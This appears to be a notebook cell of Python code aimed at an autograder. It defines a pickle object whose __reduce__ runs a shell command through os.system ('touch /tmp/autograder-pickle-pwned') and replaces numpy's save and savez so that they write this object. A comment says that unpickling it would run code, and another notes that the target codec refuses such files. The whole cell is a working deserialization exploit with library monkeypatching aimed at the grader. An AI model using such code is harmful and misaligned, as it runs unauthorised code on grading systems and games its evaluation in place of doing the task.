# Make numpy write a pickle where the grader expects plain data: unpickling it would run code.
# slow: the codec never unpickles (tests/test_wire.py); crafted files are refused there
# %%
import os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-pickle-pwned",))
def evil_savez(file, *args, **kwargs):
    with open(file, "wb") as handle:
        pickle.dump(np.array([Evil()], dtype=object), handle)
np.savez = evil_savez
np.save = evil_savez
